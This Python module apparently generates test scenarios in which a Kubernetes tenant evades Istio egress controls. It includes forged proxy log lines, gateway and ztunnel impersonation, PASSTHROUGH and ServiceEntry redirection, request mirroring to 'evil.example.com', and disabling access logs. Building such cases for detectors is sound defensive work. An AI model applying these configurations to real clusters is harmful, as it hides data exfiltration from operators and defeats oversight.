"""The attacks, by name: each with the modes in which a tenant can try it."""

from __future__ import annotations

from collections.abc import Callable

from worlds import objects as k8s
from worlds.adversary import FAR, NS, Attacker, proxy_alone
from worlds.endings import BY_NAME
from worlds.lines import socket
from worlds.model import END, START, Host, Line

BOTH, SIDECAR, AMBIENT = ("sidecar", "ambient"), ("sidecar",), ("ambient",)


def _lying_name(me: Attacker) -> None:
    name = me.host.name if me.host else "docs.example.com"
    me.note(me.passthrough(me.thief(), FAR, me.rng.choice((80, 443)), name, lie=True), "lying-name", decidable=True)


def _forged_header(me: Attacker) -> None:
    """A header that looks like the rest of a line that says: through the gateway."""
    gateway = me.world.proxies[0]
    pod, name = me.thief(), me.host.name if me.host else "docs.example.com"
    tail = f'"x" "{name}" "{gateway.pods[0].ip}:8080" outbound|80||{gateway.host} {pod.ip}:50000 {FAR}:80 {pod.ip}:1025 - -'
    field, said = me.rng.choice(
        (
            ("user_agent", f'curl/8" {tail}'),
            ("x_forwarded_for", f'-" "curl" {tail}'),
            ("path", f'/ HTTP/1.1" 200 - via_upstream - "-" 0 1 1 1 "-" "a" {tail}'),
            ("authority", f'{name}" {tail[4:]}'),
        )
    )
    flow = me.passthrough(pod, FAR, 80, name, lie=True, **{field: said})
    # Text logs do not escape: such a line is not clean, and proves nothing that its sender can write.
    me.note(flow, "forged-header", decidable="json" in me.world.tags)


def _marked_as_ztunnel(me: Attacker) -> None:
    """The sender itself wears ztunnel's label."""
    pod = me.thief({"app": "ztunnel", "app.kubernetes.io/name": "ztunnel"})
    me.note(me.passthrough(pod, FAR, 443, "cdn.example.net"), "marked-as-ztunnel", decidable=True)


def _fake_ztunnel(me: Attacker) -> None:
    """A pod of the tenant writes, in a ztunnel's words, that all went to the waypoint."""
    flow = me.note(me.passthrough(me.thief(), FAR, 443, ""), "fake-ztunnel", decidable=True)
    waypoint = next(each for each in me.world.proxies if each.kind == "waypoint")
    it = me.bare(
        "z",
        {"app": "ztunnel"},
        {},
        [{"name": "istio-proxy", "image": k8s.ZTUNNEL_IMAGE}],
        me.rng.choice(("StatefulSet", "DaemonSet")),
    )
    line = flow.lines[0]
    said = dict(line.fields) | {
        "dst.addr": socket(waypoint.pods[0].ip, 15008),
        "dst.hbone_addr": "240.240.0.1:443",
        "dst.service": "docs.example.com",
    }
    me.forge(it, [Line(it.log, line.begin, line.end, "ztunnel", said)])


def _marked_as_gateway(me: Attacker) -> None:
    """A workload with a sidecar wears a gateway's labels, and sends around all gateways."""
    proxy = me.world.proxies[0]
    labels = me.rng.choice(
        (
            {
                "gateway.networking.k8s.io/gateway-name": proxy.name,
                "gateway.networking.k8s.io/gateway-class-name": "istio",
            },
            {"istio": proxy.name},
            {"gateway.istio.io/managed": "istio.io-mesh-controller"},
        )
    )
    # Not the injection template: with that, nothing would capture what the pod's application sends.
    pod = me.thief(labels, None)
    if me.host is None:
        return
    cluster = f"outbound|{me.host.port}||{me.host.name}"
    me.note(me.named(pod, me.host, me.host.addresses[0], cluster), "marked-as-gateway", decidable=False)


def _fake_gateway(me: Attacker) -> None:
    """A route of the tenant's own leads to a pod that calls itself a gateway, and writes that it sent all to the right host."""
    proxy, host, thief = me.world.proxies[0], me.host, me.thief()
    if host is None or host.scheme != "http":
        return
    labels = {"istio": proxy.name, "app": proxy.name, "gateway.networking.k8s.io/gateway-name": proxy.name}
    it = me.bare(
        f"{proxy.service}-5d8f9c7b64-zzzzz",
        labels,
        {"inject.istio.io/templates": "gateway"},
        proxy_alone(),
        me.rng.choice(("StatefulSet", "Pod")),
    )
    me.world.objects += [
        k8s.service(NS, proxy.name, me.builder.vips(), {80: 8080}, labels),
        k8s.slice_of(NS, proxy.name, [it], {80: 8080}),
    ]
    me.add(
        k8s.ISTIO,
        "VirtualService",
        "mine",
        spec={
            "hosts": [host.name],
            "exportTo": ["."],
            "http": [
                {"route": [{"destination": {"host": f"{proxy.name}.{NS}.svc.cluster.local", "port": {"number": 80}}}]}
            ],
        },
    )
    flow = me.named(thief, host, FAR, f"outbound|80||{proxy.name}.{NS}.svc.cluster.local", upstream=socket(it.ip, 8080))
    sent = flow.lines[0]
    fields = dict(sent.fields) | {
        "upstream_host": socket(host.addresses[0], 80), "upstream_cluster": f"outbound|80||{host.name}", "upstream_local_address": socket(it.ip, 41000),
        "downstream_local_address": socket(it.ip, 8080), "downstream_remote_address": sent.fields["upstream_local_address"],
    }  # fmt: skip
    me.forge(it, [Line(it.log, sent.begin + 1, sent.end - 1, "envoy", fields)])
    me.note(flow, "fake-gateway", decidable=False, violates=True)


def _rogue_gateway(me: Attacker) -> None:
    """A real gateway, injected and all, that the tenant runs and no policy lists."""
    if me.host is None or me.host.scheme != "http" or me.host.far_port != me.host.port:
        return
    proxy = me.builder.gateway(NS, "own-gw", "istio", 1)
    rule = {"hosts": [me.host.name], "gateways": ["mesh", f"{NS}/own"], "http": [
        {"match": [{"gateways": ["mesh"], "port": 80}], "route": [{"destination": {"host": proxy.host, "port": {"number": 80}}}]},
        {"match": [{"gateways": [f"{NS}/own"], "port": 80}], "route": [{"destination": {"host": me.host.name, "port": {"number": 80}}}]},
    ]}  # fmt: skip
    me.add(k8s.ISTIO, "VirtualService", "own", spec=rule)
    me.add(
        k8s.ISTIO,
        "Gateway",
        "own",
        spec={
            "selector": {"istio": "own-gw"},
            "servers": [{"port": {"number": 80, "name": "http", "protocol": "HTTP"}, "hosts": [me.host.name]}],
        },
    )
    for pod in proxy.pods:
        pod.log_format = "json" if "json" in me.world.tags else "text"
    host = Host(me.host.name, me.host.addresses, 80, "http", "gateway", (proxy,), 80, me.host.vip)
    for flow in me.traffic.routed(me.thief(), host, me.when(), 40, BY_NAME["http", "ok"]):
        me.note(flow, "rogue-gateway", decidable=True)


def _static_entry(me: Attacker) -> None:
    """The tenant's own ServiceEntry gives a foreign host the tenant's address."""
    if me.host is None:
        return
    port = {
        "number": me.host.port,
        "name": "p",
        "protocol": {"http": "HTTP", "tls": "TLS", "tcp": "TCP"}[me.host.scheme],
    }
    me.add(
        k8s.ISTIO,
        "ServiceEntry",
        "theirs",
        spec={
            "hosts": [me.host.name],
            "exportTo": [me.rng.choice((".", "*"))],
            "ports": [port],
            "resolution": "STATIC",
            "endpoints": [{"address": FAR}],
        },
    )
    _named_elsewhere(me, "static-entry")


def _passthrough_rule(me: Attacker) -> None:
    """`loadBalancer: PASSTHROUGH`: the proxy connects to whatever address the sender dials."""
    if me.host is None:
        return
    me.add(
        k8s.ISTIO,
        "DestinationRule",
        "dial",
        spec={
            "host": me.host.name,
            "exportTo": [me.rng.choice((".", "*"))],
            "trafficPolicy": {"loadBalancer": {"simple": "PASSTHROUGH"}},
        },
    )
    _named_elsewhere(me, "passthrough-rule")


def _named_elsewhere(me: Attacker, name: str) -> None:
    host = me.host
    if host is None:
        return
    flow = me.named(me.thief(), host, FAR, f"outbound|{host.port}||{host.name}")
    me.note(flow, name, decidable=False)
    from worlds.truth import violates

    # Where the rule lets the name go directly, the name is all that a rule speaks of: who wrote the address is trusted or not.
    flow.violates = violates(flow, me.world.policy, None) or None


def _gateway_passthrough_rule(me: Attacker) -> None:
    """The same for the gateway's Service: its name stands in the line, its pods saw nothing."""
    proxy = me.world.proxies[0]
    if me.host is None:
        return
    me.add(
        k8s.ISTIO,
        "DestinationRule",
        "dial-gw",
        spec={"host": proxy.host, "trafficPolicy": {"loadBalancer": {"simple": "PASSTHROUGH"}}},
    )
    flow = me.named(me.thief(), me.host, FAR, f"outbound|80||{proxy.host}")
    me.note(flow, "gateway-passthrough-rule", decidable=False, violates=True)


def _retries(me: Attacker) -> None:
    """Two endpoints, of which the first takes the body and resets: the line names only the second, the gateway."""
    host = me.host
    if host is None or host.scheme != "http" or me.world.proxies[0].api != "istio":
        return
    proxy = me.world.proxies[0]
    points = [{"address": FAR, "ports": {"http": 80}}, {"address": proxy.pods[0].ip, "ports": {"http": 8080}}]
    me.add(
        k8s.ISTIO,
        "ServiceEntry",
        "two",
        spec={
            "hosts": [host.name],
            "ports": [{"number": 80, "name": "http", "protocol": "HTTP"}],
            "resolution": "STATIC",
            "endpoints": points,
        },
    )
    through = Host(host.name, host.addresses, 80, "http", "gateway", (proxy,), 80, host.vip)
    thief, at = me.thief(), me.when()
    for flow in me.traffic.routed(thief, through, at, 40, BY_NAME["http", "ok"]):
        flow.lines[0].fields["upstream_cluster"] = f"outbound|80||{host.name}"
        me.note(flow, "retries", decidable=False)
    me.note(me.traffic.flow(thief, host.name, FAR, 80, "http", at, at + 5), "retries", decidable=False, violates=True)


def _mirror(me: Attacker) -> None:
    """Every request is copied to another host; Envoy logs no copies."""
    host = me.host
    if host is None or host.scheme != "http" or host.way != "gateway":
        return
    me.add(
        k8s.ISTIO,
        "ServiceEntry",
        "copy",
        spec={
            "hosts": ["evil.example.com"],
            "ports": [{"number": 80, "name": "http", "protocol": "HTTP"}],
            "resolution": "DNS",
        },
    )
    proxy = host.through[0]
    route = {
        "route": [{"destination": {"host": proxy.host, "port": {"number": 80}}}],
        "mirror": {"host": "evil.example.com", "port": {"number": 80}},
    }
    me.add(k8s.ISTIO, "VirtualService", "copy", spec={"hosts": [host.name], "http": [route]})
    thief, at = me.thief(), me.when()
    for flow in me.traffic.routed(thief, host, at, 40, BY_NAME["http", "ok"]):
        me.note(flow, "mirror", decidable=False)
    me.note(
        me.traffic.flow(thief, "evil.example.com", FAR, 80, "http", at, at + 40),
        "mirror",
        decidable=False,
        violates=True,
    )


def _external_ips(me: Attacker) -> None:
    me.world.objects.append(
        k8s.service(NS, "hide", me.builder.vips(), {9999: 9999}, {"app": "thief-0"}, externalIPs=[FAR])
    )
    me.note(me.passthrough(me.thief(), FAR, 443, "cdn.example.net"), "external-ips", decidable=True)


def _workload_entry(me: Attacker) -> None:
    me.add(k8s.ISTIO, "WorkloadEntry", "vm", spec={"address": FAR, "labels": {"app": "vm"}})
    me.add(
        k8s.ISTIO,
        "ServiceEntry",
        "vms",
        spec={
            "hosts": ["vm.evil.internal"],
            "location": "MESH_INTERNAL",
            "ports": [{"number": 9999, "name": "tcp", "protocol": "TCP"}],
            "resolution": "STATIC",
            "workloadSelector": {"labels": {"app": "vm"}},
        },
    )
    me.note(me.passthrough(me.thief(), FAR, 443, "cdn.example.net"), "workload-entry", decidable=True)


def _manual_slice(me: Attacker) -> None:
    """A Service without a selector, and endpoints by hand."""
    me.world.objects.append(k8s.service(NS, "ext", me.builder.vips(), {80: 80}, None))
    me.add(
        "discovery.k8s.io/v1",
        "EndpointSlice",
        "ext-1",
        labels={"kubernetes.io/service-name": "ext"},
        addressType="IPv4",
        endpoints=[{"addresses": [FAR]}],
        ports=[{"name": "p80", "port": 80}],
    )
    name = f"ext.{NS}.svc.cluster.local"
    host = Host(name, (FAR,), 80, "http", "direct", vip="10.96.0.99")
    me.note(me.named(me.thief(), host, FAR, f"outbound|80||{name}"), "manual-slice", decidable=True)


def _inbound_out(me: Attacker) -> None:
    """An inbound listener of the sidecar that leads out."""
    pod = me.thief()
    flow = me.passthrough(pod, FAR, 443, "", upstream_cluster="InboundPassthroughCluster", requested_server_name="-")
    me.note(flow, "inbound-out", decidable=False)


def _mapped(me: Attacker) -> None:
    me.note(me.passthrough(me.thief(), f"::ffff:{FAR}", 443, "cdn.example.net"), "mapped", decidable=True)


def _decoys(me: Attacker) -> None:
    """Many names for one address, the one that counts at the end."""
    pod, host = me.thief(), me.host
    if host is None:
        return
    for name in [*(f"a{n}.decoy.example" for n in range(1, 8)), host.name]:
        me.note(me.passthrough(pod, FAR, 80, name, lie=True), "decoys", decidable=True)


def _telemetry_off(me: Attacker) -> None:
    me.add("telemetry.istio.io/v1", "Telemetry", "quiet", spec={"accessLogging": [{"disabled": True}]})
    _unlogged(me, "telemetry-off")


def _envoy_filter(me: Attacker) -> None:
    patch = {
        "applyTo": "NETWORK_FILTER",
        "match": {
            "context": "SIDECAR_OUTBOUND",
            "listener": {"filterChain": {"filter": {"name": "envoy.filters.network.tcp_proxy"}}},
        },
        "patch": {
            "operation": "MERGE",
            "value": {
                "typed_config": {
                    "@type": "type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy",
                    "access_log": [],
                }
            },
        },
    }
    me.add("networking.istio.io/v1alpha3", "EnvoyFilter", "quiet", spec={"configPatches": [patch]})
    _unlogged(me, "envoy-filter")


def _unlogged(me: Attacker, name: str) -> None:
    flow = me.note(me.passthrough(me.thief(), FAR, 443, "cdn.example.net"), name, decidable=False, violates=True)
    me.world.lines.remove(flow.lines[0])
    flow.lines.clear()


def _around(me: Attacker) -> None:
    """Ports that the sidecar is not given: no log can show it, so the report has to name the pod."""
    pod = me.thief(annotations={"traffic.sidecar.istio.io/excludeOutboundPorts": "443"})
    flow = me.passthrough(pod, FAR, 443, "cdn.example.net")
    me.world.lines.remove(flow.lines[0])
    flow.lines.clear()
    flow.in_scope = False
    me.note(flow, "around", decidable=False)
    me.world.must_name.append(f"{NS}/{pod.name}")


def _called_proxy(me: Attacker) -> None:
    """A pod outside capture whose only container is called istio-proxy, with a log that looks busy."""
    it = me.bare("x", {}, {}, proxy_alone(), "Pod")
    me.forge(it, [Line(it.log, START + 5000, END - 5000, "agent", {"text": "all is well"})])
    me.world.must_name.append(f"{NS}/{it.name}")


ATTACKS: dict[str, tuple[tuple[str, ...], Callable[[Attacker], None]]] = {
    "around": (SIDECAR, _around),
    "called-proxy": (BOTH, _called_proxy),
    "decoys": (SIDECAR, _decoys),
    "envoy-filter": (SIDECAR, _envoy_filter),
    "external-ips": (BOTH, _external_ips),
    "fake-gateway": (SIDECAR, _fake_gateway),
    "fake-ztunnel": (AMBIENT, _fake_ztunnel),
    "forged-header": (SIDECAR, _forged_header),
    "gateway-passthrough-rule": (SIDECAR, _gateway_passthrough_rule),
    "inbound-out": (SIDECAR, _inbound_out),
    "lying-name": (BOTH, _lying_name),
    "manual-slice": (SIDECAR, _manual_slice),
    "mapped": (SIDECAR, _mapped),
    "marked-as-gateway": (SIDECAR, _marked_as_gateway),
    "marked-as-ztunnel": (SIDECAR, _marked_as_ztunnel),
    "mirror": (SIDECAR, _mirror),
    "passthrough-rule": (SIDECAR, _passthrough_rule),
    "retries": (SIDECAR, _retries),
    "rogue-gateway": (SIDECAR, _rogue_gateway),
    "static-entry": (SIDECAR, _static_entry),
    "telemetry-off": (SIDECAR, _telemetry_off),
    "workload-entry": (BOTH, _workload_entry),
}
